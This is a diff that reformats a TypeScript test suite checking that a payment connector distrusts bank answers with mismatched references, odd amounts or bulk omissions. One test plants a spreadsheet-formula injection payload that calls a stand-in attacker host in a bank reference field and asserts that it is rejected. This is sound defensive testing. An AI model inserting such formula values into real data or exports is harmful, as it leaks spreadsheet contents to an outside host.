@@ -14,19 +14,29 @@ import { arranged, bounded, KIT_EVENTUALLY_MS, KitSkip, shown, submitted } from 
 type Lying = ConnectorUnderTest & { bank: { lie: NonNullable<ConnectorUnderTest['bank']['lie']> } };
 
 function lying(cut: ConnectorUnderTest): Lying {
-  if (!cut.bank.lie) throw new KitSkip('the bank behind this adapter answers from our own records: it cannot be made to lie');
+  if (!cut.bank.lie)
+    throw new KitSkip('the bank behind this adapter answers from our own records: it cannot be made to lie');
   return cut as Lying;
 }
 
 /** The cut with its adapter behind the answer checks, as the service runs it. */
-const checkedCut = (cut: ConnectorUnderTest): ConnectorUnderTest => ({ ...cut, adapter: answerCheckedRail(cut.adapter) });
+const checkedCut = (cut: ConnectorUnderTest): ConnectorUnderTest => ({
+  ...cut,
+  adapter: answerCheckedRail(cut.adapter),
+});
 
 function assertDoubted(answer: RailLookup, kind: string, what: string): void {
-  assert.equal(answer.status, 'unconfirmed', `${what}: an answer that fails the checks is not believed: ${shown(answer)}`);
-  if (answer.status === 'unconfirmed') assert.equal(answer.doubt?.kind, kind, `${what}: the doubt names why: ${shown(answer)}`);
+  assert.equal(
+    answer.status,
+    'unconfirmed',
+    `${what}: an answer that fails the checks is not believed: ${shown(answer)}`,
+  );
+  if (answer.status === 'unconfirmed')
+    assert.equal(answer.doubt?.kind, kind, `${what}: the doubt names why: ${shown(answer)}`);
 }
 
-const lookedUpChecked = (cut: ConnectorUnderTest, reference: string) => bounded(answerCheckedRail(cut.adapter).lookup(reference, cut.mode), KIT_EVENTUALLY_MS, `lookup of ${reference}`);
+const lookedUpChecked = (cut: ConnectorUnderTest, reference: string) =>
+  bounded(answerCheckedRail(cut.adapter).lookup(reference, cut.mode), KIT_EVENTUALLY_MS, `lookup of ${reference}`);
 
 /** A lie armed before the send: the send's answer and every later lookup carry it. */
 async function sentWithLie(cut: Lying, lie: BankLie): Promise<{ reference: string; answer: RailLookup }> {
@@ -38,7 +48,11 @@ async function sentWithLie(cut: Lying, lie: BankLie): Promise<{ reference: strin
 async function answerAboutAnotherReference(cut: ConnectorUnderTest): Promise<void> {
   const { reference, answer } = await sentWithLie(lying(cut), { with: { reference: randomUUID() } });
   assertDoubted(answer, 'reference_mismatch', 'a send answered about another reference');
-  assertDoubted(await lookedUpChecked(cut, reference), 'reference_mismatch', 'a lookup answered about another reference');
+  assertDoubted(
+    await lookedUpChecked(cut, reference),
+    'reference_mismatch',
+    'a lookup answered about another reference',
+  );
 }
 
 async function amountOtherThanOurs(cut: ConnectorUnderTest): Promise<void> {
@@ -47,24 +61,42 @@ async function amountOtherThanOurs(cut: ConnectorUnderTest): Promise<void> {
   // A lookup does not know our amount: it gives the bank's, which the outcome decision compares.
   const looked = await lookedUpChecked(cut, reference);
   assert.ok(looked.status !== 'unconfirmed' && looked.status !== 'not_found', `a lookup: ${shown(looked)}`);
-  assert.equal('amountMinor' in looked ? looked.amountMinor : undefined, 125_001n, `a lookup hands on the amount the bank gives, to be compared with ours: ${shown(looked)}`);
+  assert.equal(
+    'amountMinor' in looked ? looked.amountMinor : undefined,
+    125_001n,
+    `a lookup hands on the amount the bank gives, to be compared with ours: ${shown(looked)}`,
+  );
 }
 
 async function unreadableAmount(cut: ConnectorUnderTest): Promise<void> {
   for (const written of [125_000, '1250.00', '', '-125000', '1e5']) {
     const { reference, answer } = await sentWithLie(lying(cut), { with: { amountMinor: written } });
     assertDoubted(answer, 'unreadable_answer', `a send answered with the amount ${shown(written)}`);
-    assertDoubted(await lookedUpChecked(cut, reference), 'unreadable_answer', `a lookup answered with the amount ${shown(written)}`);
+    assertDoubted(
+      await lookedUpChecked(cut, reference),
+      'unreadable_answer',
+      `a lookup answered with the amount ${shown(written)}`,
+    );
   }
 }
 
 async function bankReferenceNotPlain(cut: ConnectorUnderTest): Promise<void> {
   const liar = lying(cut);
   const transfer = await arranged(liar, { kind: 'settle' });
-  await liar.bank.lie(transfer.reference, { with: { bankReference: '=HYPERLINK("http://attacker.invalid/?"&A2,"x")' } });
-  assertDoubted(await submitted(checkedCut(liar), transfer), 'unreadable_answer', 'a send answered with a bank reference that is not plain');
+  await liar.bank.lie(transfer.reference, {
+    with: { bankReference: '=HYPERLINK("http://attacker.invalid/?"&A2,"x")' },
+  });
+  assertDoubted(
+    await submitted(checkedCut(liar), transfer),
+    'unreadable_answer',
+    'a send answered with a bank reference that is not plain',
+  );
   await liar.bank.decide?.(transfer.reference);
-  assertDoubted(await lookedUpChecked(liar, transfer.reference), 'unreadable_answer', 'a lookup answered with a bank reference that is not plain');
+  assertDoubted(
+    await lookedUpChecked(liar, transfer.reference),
+    'unreadable_answer',
+    'a lookup answered with a bank reference that is not plain',
+  );
 }
 
 async function bulkLeavesOutOrRepeats(cut: ConnectorUnderTest): Promise<void> {
@@ -76,11 +108,27 @@ async function bulkLeavesOutOrRepeats(cut: ConnectorUnderTest): Promise<void> {
   for (const t of [left, twice, plain]) await submitted(liar, t);
   await liar.bank.lie(left.reference, { bulk: 'omit' });
   await liar.bank.lie(twice.reference, { bulk: 'duplicate' });
-  const answers = await bounded(answerCheckedRail(liar.adapter).lookupMany!([left.reference, twice.reference, plain.reference], liar.mode), KIT_EVENTUALLY_MS, 'lookupMany');
+  const answers = await bounded(
+    answerCheckedRail(liar.adapter).lookupMany!([left.reference, twice.reference, plain.reference], liar.mode),
+    KIT_EVENTUALLY_MS,
+    'lookupMany',
+  );
   assert.equal(answers.length, 3, `one answer per reference, in order: ${shown(answers)}`);
-  assert.equal(answers[0]!.status, 'unconfirmed', `a reference the bulk answer leaves out is unconfirmed: ${shown(answers[0])}`);
-  assert.equal(answers[1]!.status, 'unconfirmed', `a reference the bulk answer gives twice is unconfirmed: ${shown(answers[1])}`);
-  assert.notEqual(answers[2]!.status, 'unconfirmed', `the other references are answered as usual: ${shown(answers[2])}`);
+  assert.equal(
+    answers[0]!.status,
+    'unconfirmed',
+    `a reference the bulk answer leaves out is unconfirmed: ${shown(answers[0])}`,
+  );
+  assert.equal(
+    answers[1]!.status,
+    'unconfirmed',
+    `a reference the bulk answer gives twice is unconfirmed: ${shown(answers[1])}`,
+  );
+  assert.notEqual(
+    answers[2]!.status,
+    'unconfirmed',
+    `the other references are answered as usual: ${shown(answers[2])}`,
+  );
 }
 
 /** The answer-check cases, by title, for the kit's suite. */
